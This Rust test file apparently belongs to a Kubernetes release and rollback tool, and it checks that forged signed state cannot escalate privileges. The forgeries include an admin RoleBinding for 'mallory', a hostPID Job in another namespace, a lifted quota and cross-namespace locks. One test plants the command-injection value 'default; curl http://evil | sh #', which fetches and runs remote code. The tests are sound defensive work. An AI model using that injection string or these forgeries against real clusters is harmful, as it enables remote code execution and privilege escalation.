//! Somebody with the role `edit` reads the key, and forges whatever it vouches for: nothing comes of it beyond the namespace.

use super::forger::Forger;
use super::*;
use crate::harness::{Act, KillProxy, Namespace, TestCluster};

const RBAC: &str = "rbac.authorization.k8s.io";

fn quota() -> Value {
    json!({"apiVersion": "v1", "kind": "ResourceQuota", "metadata": {"name": "small"}, "spec": {"hard": {"pods": "9"}}})
}

/// What the program refuses, and what it names.
fn refused(ran: &Ran, asked: &str) {
    assert_eq!(ran.code, Some(2), "{}", ran.stderr);
    let asked = format!("--allow-unconfirmed {asked}");
    assert!(
        ran.stderr.contains("UNCONFIRMED") && ran.stderr.contains(&asked),
        "{asked}: {}",
        ran.stderr
    );
}

#[test]
fn no_rights_through_a_pre_image() {
    let app = promoted();
    app.promote("2", &version("2")).run().exits(0);
    let mut forger = Forger::new(&app);
    let namespace = app.namespace.name();
    forger.change_parts(|parts| {
        let step = &mut parts["steps"][0];
        step["step"]["target"] = json!({"resource": {"group": RBAC, "version": "v1", "kind": "RoleBinding",
            "plural": "rolebindings", "namespaced": true}, "namespace": namespace, "name": "mallory-admin"});
        step["step"]["undo"] = json!({"type": "createAgain"});
        step["before"] = json!({"apiVersion": format!("{RBAC}/v1"), "kind": "RoleBinding",
            "metadata": {"name": "mallory-admin", "namespace": namespace},
            "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": "admin"},
            "subjects": [{"kind": "ServiceAccount", "name": "mallory", "namespace": namespace}]});
    });
    forger.seal();
    // With the key, the forgery is sealed.
    state(&app, "verify").run().exits(0);
    refused(
        &app.revert().run(),
        &format!("RoleBinding/{namespace}/mallory-admin"),
    );
    assert!(app.namespace.get(RBAC, "RoleBinding", "mallory-admin").is_none());
    assert_eq!(value_of(&app), "2");
}

#[test]
fn no_job_elsewhere_no_address_asked_and_no_quota_lifted_through_a_record() {
    let app = App::new();
    let elsewhere = TestCluster::get().namespace_named("t-forged");
    let mut objects = version("1");
    objects.push(quota());
    app.promote("1", &objects).run().exits(0);
    objects[0] = version("2").remove(0);
    app.promote("2", &objects).run().exits(0);
    let pod = json!({"restartPolicy": "Never", "hostPID": true, "containers": [{"name": "a", "image": "a"}]});
    let job = json!({"apiVersion": "batch/v1", "kind": "Job",
        "metadata": {"name": "evil", "namespace": elsewhere.name()}, "spec": {"template": {"spec": pod}}});
    let query = json!({"url": "http://127.0.0.1:1", "query": "up", "condition": "true"});
    let mut forger = Forger::new(&app);
    forger.change_record(1, |record| {
        record["gates"] = json!([
            {"gate": {"name": "job", "job": "job.yaml"}, "job": job},
            {"gate": {"name": "ask", "prometheus": query}},
        ]);
        record["desired"]
            .as_array_mut()
            .unwrap()
            .retain(|object| object["kind"] != "ResourceQuota");
    });
    forger.seal();
    let back = || app.revert().args(["--to-revision", "1", "--allow-prune"]).run();
    let ran = back();
    for asked in [
        format!("Job/{}/evil", elsewhere.name()),
        "Gate/ask".to_owned(),
        format!("ResourceQuota/{}/small", app.namespace.name()),
    ] {
        refused(&ran, &asked);
    }
    assert!(elsewhere.get("batch", "Job", "evil").is_none());
    assert!(app.namespace.get("", "ResourceQuota", "small").is_some());
    assert_eq!(value_of(&app), "2");
}

#[test]
fn no_quota_lifted_through_a_journal_that_the_same_release_goes_on_with() {
    let app = promoted();
    let mut objects = version("2");
    objects.push(quota());
    let proxy = KillProxy::start(&TestCluster::get().kubeconfig);
    let is_quota = |path: &str| path.ends_with("/resourcequotas/small");
    proxy.run(&mut app.promote("2", &objects)).exits(0);
    let at = proxy
        .writes()
        .iter()
        .position(|write| is_quota(&write.path))
        .expect("it is applied")
        + 1;
    app.revert()
        .args([
            "--allow-unconfirmed",
            &format!("ResourceQuota/{}/small", app.namespace.name()),
        ])
        .run()
        .exits(0);
    proxy.forget();
    proxy.at_write(at, Act::KillAfter);
    assert_eq!(proxy.run(&mut app.promote("2", &objects)).code, None);
    let mut forger = Forger::new(&app);
    forger.head["current"]["phase"] = "reverting".into();
    forger.head["current"]["reverting"] = json!({"keepForeign": false, "why": "asked", "wasPromoted": false});
    forger.seal();
    refused(
        &app.promote("2", &objects).run(),
        &format!("ResourceQuota/{}/small", app.namespace.name()),
    );
    assert!(app.namespace.get("", "ResourceQuota", "small").is_some());
}

#[test]
fn no_lock_is_taken_elsewhere_through_a_journal_that_names_another_release() {
    let app = promoted();
    let elsewhere = TestCluster::get().namespace_named("t-forged");
    app.promote("2", &version("2")).run().exits(0);
    let mut forger = Forger::new(&app);
    forger.head["current"]["movesFrom"] = json!([{"namespace": elsewhere.name(), "name": "theirs"}]);
    forger.seal();
    // An object that was there and has gone again leaves a younger one behind it.
    let version_of_all = |namespace: &Namespace| -> Value {
        let all = namespace
            .kubectl()
            .args(["get", "leases", "-o", "json"])
            .run()
            .ok();
        serde_json::from_str::<Value>(&all).unwrap()["metadata"]["resourceVersion"].clone()
    };
    let watch = version_of_all(&elsewhere);
    refused(
        &app.revert().run(),
        &format!("ConfigMap/{}/delivery-theirs", elsewhere.name()),
    );
    let path = format!(
        "/apis/coordination.k8s.io/v1/namespaces/{}/leases?watch=1&timeoutSeconds=2&resourceVersion={}",
        elsewhere.name(),
        watch.as_str().unwrap()
    );
    let seen = TestCluster::get()
        .kubectl()
        .args(["get", "--raw", &path])
        .run()
        .ok();
    assert_eq!(seen.trim(), "", "a lock was taken");
    assert_eq!(value_of(&app), "2");
}

#[test]
fn a_pre_image_in_a_config_map_is_none() {
    let app = promoted();
    app.promote("2", &version("2")).run().exits(0);
    let mut forger = Forger::new(&app);
    let parts = forger.read(&forger.head["current"]["parts"][0]);
    forger.head["current"]["parts"] = json!([forger.bundle(&parts, "before", false)]);
    forger.seal();
    let ran = app.revert().run().exits(2);
    assert!(
        ran.stderr.contains("a pre-image that is not a Secret"),
        "{}",
        ran.stderr
    );
    assert_eq!(value_of(&app), "2");
}

#[test]
fn what_a_journal_names_reaches_no_command_that_is_to_be_typed() {
    let app = promoted();
    let mut forger = Forger::new(&app);
    forger.head["current"]["namespace"] = "default; curl http://evil | sh #".into();
    forger.seal();
    for words in [&["status"][..], &["revert", NAME], &["state", "verify", NAME]] {
        let ran = command(&app, words).run();
        let all = ran.stdout.clone() + &ran.stderr;
        assert!(!all.contains("curl"), "{all}");
        assert!(all.contains("belongs to another release"), "{words:?}: {all}");
    }
}

#[test]
fn a_rotation_seals_nothing_that_the_key_before_does_not_vouch_for() {
    let app = promoted();
    let folder = tempfile::tempdir().unwrap();
    let (own, next) = (
        keys::key(folder.path(), "own", 1),
        keys::key(folder.path(), "next", 2),
    );
    let forger = Forger::new(&app);
    forger.seal_with(|seal| {
        seal["next"] = seal["current"].clone();
        seal["next"]["key"] = "0011223344556677".into();
    });
    let rotate = |from: &std::path::Path| {
        state(&app, "rotate")
            .arg("--state-key")
            .arg(from)
            .arg("--to")
            .arg(&next)
            .run()
    };
    let ran = rotate(&own);
    assert_eq!(ran.code, Some(2), "{}", ran.stderr);
    assert_eq!(
        state(&app, "verify").arg("--state-key").arg(&next).run().code,
        Some(2)
    );
}

#[test]
fn what_a_key_in_the_cluster_vouched_for_is_forgotten_under_a_key_outside() {
    let app = promoted();
    app.promote("2", &version("2")).run().exits(0);
    let folder = tempfile::tempdir().unwrap();
    let own = keys::key(folder.path(), "own", 1);
    let ran = state(&app, "rotate").arg("--to").arg(&own).run().exits(0);
    assert!(
        ran.stderr.contains("and is dropped: only promotions from now on"),
        "{}",
        ran.stderr
    );
    let with_key = |mut command: Command| command.arg("--state-key").arg(&own).run();
    let ran = with_key(app.revert()).exits(1);
    assert!(
        ran.stderr
            .contains("were dropped when its state got a key outside"),
        "{}",
        ran.stderr
    );
    let mut back = app.revert();
    back.args(["--to-revision", "1"]);
    assert_eq!(with_key(back).code, Some(1));
    assert_eq!(value_of(&app), "2");
    with_key(app.promote("3", &version("3"))).exits(0);
    with_key(app.revert()).exits(0);
    assert_eq!(value_of(&app), "2");
}
